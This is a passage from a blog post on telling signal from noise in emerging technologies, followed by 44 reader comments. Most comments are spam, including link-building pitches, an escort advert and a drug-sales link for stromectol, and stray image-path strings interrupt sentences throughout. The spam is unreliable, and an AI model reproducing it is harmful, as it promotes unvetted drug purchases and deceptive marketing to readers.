It’s the ones that lie at the intersection of the “Computing Trinity” that also matter — Cognitive Connected Distributed Computing — AI, IoT, and Blockchain — which constitute the 4th Industrial Revolution. This Dunning-Kruger Effect explains many things — that we shouldn’t be overconfident but we shouldn’t be ignorant and dismissive either of the important things out there. We should seek the signals through the noise instead of only listening to the noise and making the quick snappy decision that all of it is not worth it. Here’s one way to keep up to date with & stay on top of current/future topics:

To wrap all of this up — all of this is to say “signals” matter more than “noise” (of course, but sometimes the most obvious things are the least obvious because of the mental heuristics our brains love to make). Theabove 2 strategies of the “Passionate Persona” and“MECE” are both signal-seeking strategies at the end of the day. Don’t dismiss exponential technologies and don’t dismiss the need to innovate within your company. Increase your knowledge of things so as to not sit atop Mount Stupid and be a Hype-beast with rose-coloured glasses in front of your eyes. Seek to be and seek to be with those who will get you to be at the peak and plateau of sustainability and thus productivity. That’s what I’m doing andthat’s what I’m constantly/consistently trying to do.

Another individual — David Merriman who’s made the connection to all 3 of these curves in a more in-depth fashion is below:

My name’s Tian Zhao and I’m a young professional with a background in industrial/systems/human-factors engineering from the University of Toronto who’s deeply and widely passionate about solving problems in a scalable, sustainable, and systematic manner.


  1. The items possess been mentioned are the beginning.
    In this article I am going to give you four steps for starting a enterprise.
    There are many unethical “how to” programs out there that fail to

  2. Link building has search as natural as possible.
    Publishers notice when an author writes for highly publicized and popular online pages.
    It’s easy to do right and takes shortwhile.

  3. Nice post. I was checking constantly this blog and I am impressed!
    Very helpful info specifically the last part  I care
    for such information a lot. I was seeking this certain information for a very long time.
    Thank you and good luck.

  4. It is appropriate time to make a few plans for the longer term and it’s time to be happy.
    I’ve learn this submit and if I may just I want to suggest you few attention-grabbing things or advice.
    Perhaps you could write next articles referring to this article.
    I want to read even more things about it!

  5. I’m really impressed with your writing skills and also with the layout on your weblog.
    Is this a paid theme or did you customize it yourself?

    Anyway keep up the nice quality writing, it is rare to
    see a nice blog like this one these days.

  6. Affiliate marketing is an exceptional way to start making extra
    cash. If you love blogging, will need make sure you often have installed the I love
    socialbookmarking plugin.

  7. This design is wicked! You obviously know how to keep a reader amused.
    Between your wit and your videos, I was almost moved to start my
    own blog (well, almost…HaHa!) Wonderful job. I really loved what you had
    to say, and more than that, how you presented it.
    Too cool!

  8. The young ladies that have taken part with us in this industry are completely
    prepared and embraced in having the option to conformto various social events making them amazing colleagues.

    Allure and faultless magnificence make models Service in Saket an essential
    characteristic for the most clean networks.

  9. I’m now not positive where you’re getting your info, however great topic.
    I needs to spend some time finding out more or understanding more.

    Thank you for fantastic info I was searching for
    this info for my mission.

  10. An outstanding share! I’ve just forwarded this onto a coworker who has been doing a little homework
    on this. And he actually ordered me breakfast simply because I stumbled
    upon it for him… lol. So let me reword this…. Thank YOU for the meal!!
    But yeah, thanx for spending the time to talk about this topic here on your

  11. Thanks so much for giving everyone an update on this subject matter on your web-site.
    Please know that if a brand new post appears or if any adjustments occur to the current
    publication, I would be interested in reading a lot more and focusing on how to make good usage of those methods you share.
    Thanks for your time and consideration of people by making this website available.

  12. Hey there! This is my first visit to your blog! We are a team of volunteers and starting a new initiative in a community in the
    same niche. Your blog provided us valuable information towork on. You
    have done a marvellous job!

  13. You also can conduct job seminars and interview sessions in certain english organizations.
    We are selling a simple guide steps to help you in this way.

    First, analyze the website your link will be put on.

  14. I truly love your website.. Great colors & theme.
    Did you develop this amazing site yourself?
    Please reply back as I’m wanting to create my own site
    and would love to know where you got this from or what the theme is called.

    Appreciate it!

  15. hello!,I really like your writing so much! proportion we keep in touch more approximately
    your post on AOL? I need an expert in this area
    to resolve my problem. Maybe that is you!

    Having a look ahead to see you.

  16. Howdy would you mind letting me know which webhost you’re
    using? I’ve loaded your blog in 3 different web browsers and I must say
    this blog loads a lot quicker then most. Can you suggest a good internet hosting
    provider at a reasonable price? Kudos, I appreciate it!17. Howdy! I know this is kind of off-topic
    however I needed to ask. Does running a well-established website such as yours require a lot of work?

    I am brand new to blogging however I do write in my journal daily.
    I’d like to start a blog so I will be able to share my experience and views online.
    Please let me know if you have any recommendations or tips for
    new aspiring blog owners. Thankyou!

  18. I’m not sure where you are getting your info, but great topic.
    I needs to spend some time learning much more or understanding more.
    Thanks for magnificent info I was looking for this
    info for my mission.

  19. My partner and I stumbled over here by a different web address and thought I
    might as well check things out. I like what I see so now i am followingyou.
    Look forward to finding out about your web page for a second time.

  20. Howdy! I understand this is sort of off-topic however I needed to ask.
    Does managing a well-established blog such as yours take a massive amount
    work? I’m brand new to running a blog but I do write in my diary
    everyday. I’d like to start a blog so I can share my experience and views online.
    Please let me know if you have any kind of suggestions or tips for brand new
    aspiring blog owners. Appreciate it!

  21. Hi there colleagues, how is everything, and what
    you want to say concerning this piece of writing, in my view its genuinely remarkable designed
    for me.

  22. Hiya! I know this is kinda off topic but I’d figured I’d
    ask. Would you be interested in trading links or maybeguest writing
    a blog post or vice-versa? My website discusses a lot of the same topics as yours and I feel we could greatly benefit from
    each other. If you are interested feel free to send me an e-mail.
    I look forward to hearing from you! Fantastic blog by
    the way!

  23. Your style is unique compared to other people I have read stuff from.
    Thanks for posting when you’ve got the opportunity, Guess I’ll just
    book mark this blog.

  24. Hi, I do think this is an excellent site. I stumbledupon it 😉 I am
    going to return yet again since I saved as a favorite it.
    Money and freedom is the best way to change, may you
    be rich and continue to help other people.

  25. I am really impressed together with your writing
    abilities as neatly as with the structure in your blog. Is that this a paid subjector did you modify it yourself?
    Anyway stay up the excellent high quality writing, it is uncommon to look a great
    weblog like this one these days..

  26. Hello There. I discovered your weblog using msn. That is a really neatly written article.
    I’ll be sure to bookmark it and come back to
    learn extra of your helpful info. Thank you for the
    post. I will definitely return.

  27. Hello everyone, it’s my first go to see at this web site, and piece of writing
    is genuinely fruitful in support of me, keep up posting these types of articles or

  28. Attractive section of content. I just stumbled upon your blog and in accession capital to
    assert that I acquire actually enjoyed account your blog posts.
    Any way I will be subscribing to your augment and even I
    achievement you access consistently fast.

  29. When some one searches for his essential thing, therefore he/she desires to be available that in detail, thus that thing is maintained over here.

  30. Hey there! I simply would like to give you a big
    thumbs up for the excellent information you have right here on this post.
    I’ll be returning to your web site for more soon.31. Greetings! Very helpful advice within this article! It is the
    little changes that willmake the biggest changes.
    Thanks for sharing!

  32. Excellent goods from you, man. I’ve consider your stuff previous to and you’re just
    extremely fantastic. I actually like what you’ve obtained here, really like what you’re stating and the way wherein you are saying it.
    You are making it enjoyable and you continue to take care of to keep it wise.
    I can not wait to learn much more fromyou. This is really a great
    web site.

  33. I love your blog.. very nice colors & theme. Did you
    design this website yourself or did you hire someone to do it
    for you? Plz reply as I’m looking to create my own blog and would like to know where u got this
    from. many thanks

  34. It is perfect time to make some plans for the
    future and it is time to be happy. I’ve read this post and if
    I could I desire to suggest you few interesting things or advice.
    Maybe you could write next articles referring to this article.
    I want to read even more things about it!

  35. I all the time used to read paragraph in news papers but now as I am a user
    of net so from now I am using net for posts,
    thanks to web.

  36. Way cool! Some extremely valid points! I appreciate you
    penning this write-up and the rest of the website
    is really good.

  37. Unquestionably imagine that which you stated. Your favourite justification seemed to be on the net
    the easiest factor to take into account of. I say to you, I definitely get annoyed whilst
    other people think about concerns that they plainly do not knowabout. You controlled to hit the nail upon the top
    and also defined out the entire thing with no need side effect , other people could take a
    signal. Will probably be back to get more. Thanks

  38. With havin so much content and articles do you ever run into any issues of plagorism or copyright violation? My website has a lot of unique
    content I’ve either authored myself or outsourced but it appears a lot
    of it is popping it up all over the web without my permission. Do you know any methods to help
    protect against content from being ripped off?
    I’d truly appreciate it.

  39. I think this is among the most important information for me.And i’m glad reading your article. But want to remark on few general things, The site style is ideal, the articles
    is really great : D. Good job, cheers

  40. Your style is really unique in comparison to other folks I have read stuff from.
    Thank you for posting when you have the opportunity, Guess I’ll just
    book mark this page.

  41. Hi! I know this is kinda off topic but I’d figured I’d ask.
    Would you be interested in exchanging links
    or maybe guest authoring a blog post or vice-versa?

    My site addresses a lot of the same subjects as yours and I think we could greatly benefit from each other.
    If you are interested feel free to send me an email.
    I look forward to hearing from you! Terrific blog by
    the way!

  42. If some one desires to be updated with most up-to-date technologies therefore
    he must be pay a quick visit this site and be up to date every day.

  43. adrenaline stromectol dosage by body weight breaksession stromectol and
    vitamin stromectol 3 mg
    what is stromectol 3 mg used for? [url=http://stromectol3mg.com/#]buy stromectol for humans[/url] heatq buy antiparasitic
    drugs stromectol 12mg

  44. Terrific post however , I was wondering if you could write a litte more on this subject?
    I’d be very grateful if you could elaborate a little bit further.
    Many thanks!

